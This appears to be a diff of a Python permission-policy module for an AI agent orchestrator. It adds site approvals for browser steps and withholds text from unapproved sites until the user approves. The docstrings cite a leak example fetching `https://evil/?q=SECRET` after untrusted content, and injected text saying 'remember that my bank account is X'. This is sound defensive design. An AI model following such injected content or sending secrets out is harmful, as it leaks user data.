@@ -11,11 +11,18 @@ Some effects ask after untrusted content whatever the settings (ASK_AFTER_CONTEN
 `escalate_after_untrusted: false` nor argument provenance judging the values clean lets them run by themselves,
 since what they would keep is the content's say-so itself (a document's "remember that my bank account is X").
 A scope (a jorb's approved overrides) may relax or tighten effects for its own calls only.
+A browser step (tools/site_grants.py) on a site the user approved for the task (`site_approved`) runs its own
+effects by themselves, the taint its pages bring ignored; the budget, a denied effect and a tool's own demand still
+hold. A step that would run by itself while the task's browser shows a site the user has not approved
+(`unapproved_sites`) asks: its result is that site's text.
+
+This is the only place a call's mode is decided: the executor gathers the facts (effects, taint, provenance,
+budget, site grants) and calls `decide` once per call.
 """
 
 from __future__ import annotations
 
-from collections.abc import Iterable, Mapping
+from collections.abc import Iterable, Mapping, Sequence
 from dataclasses import dataclass, field
 
 from orchestrator.core.config import AutonomyConfig, Mode
@@ -76,14 +83,37 @@ def decide(
     tool_requires_confirmation: str | None = None,
     sends_out: bool = False,
     untrusted_args: list[str] | None = None,
+    site_approved: bool = False,
+    unapproved_sites: Sequence[str] = (),
 ) -> PolicyDecision:
     """sends_out: the call can carry data off the machine (a fetch of a URL, a send): after untrusted content it
     is escalated like a side effect, whatever its hints, since reading a secret then fetching
-    `https://evil/?q=SECRET` changes nothing here and still leaks."""
+    `https://evil/?q=SECRET` changes nothing here and still leaks.
+    site_approved: a browser step on a site the user approved for this task; unapproved_sites: the sites the task's
+    browser showed that the user has not approved, when this step would show one of them."""
+    decision = _decide_effects(side_effects, config, overrides=overrides, untrusted_seen=untrusted_seen,
+                               effects_this_turn=effects_this_turn, tool_requires_confirmation=tool_requires_confirmation,
+                               sends_out=sends_out, untrusted_args=untrusted_args, site_approved=site_approved)
+    if decision.mode == "auto" and unapproved_sites:
+        # a step with nothing to ask about by itself (a snapshot) on a site the task's browser showed and the user has
+        # not approved: its result is that site's text, withheld until the user approves a step there
+        return PolicyDecision("confirm", [f"this task's browser showed {', '.join(unapproved_sites)}, which you have "
+                                          "not approved; what it shows reaches the model only once you approve a step "
+                                          "there"], escalated=True)
+    return decision
+
+
+def _decide_effects(side_effects: list[str], config: AutonomyConfig, *, overrides: Mapping[str, Mode] | None,
+                    untrusted_seen: bool, effects_this_turn: int, tool_requires_confirmation: str | None,
+                    sends_out: bool, untrusted_args: list[str] | None, site_approved: bool) -> PolicyDecision:
+    modes = {e: mode_for_effect(e, config, overrides) for e in side_effects}
+    if site_approved and "deny" not in modes.values():
+        # the site's own effects no longer ask, and its pages' taint does not count
+        modes = {e: mode_for_effect(e, config, {**(overrides or {}), e: "auto"}) for e in side_effects}
+        untrusted_seen, sends_out, untrusted_args = False, False, None
     escalates_as_effect = bool(side_effects) or (sends_out and config.escalate_after_untrusted and untrusted_seen)
     if not escalates_as_effect and not tool_requires_confirmation:
         return PolicyDecision("auto")
-    modes = {e: mode_for_effect(e, config, overrides) for e in side_effects}
     mode = strictest(modes.values())
     reasons: list[str] = []
     if mode == "deny":
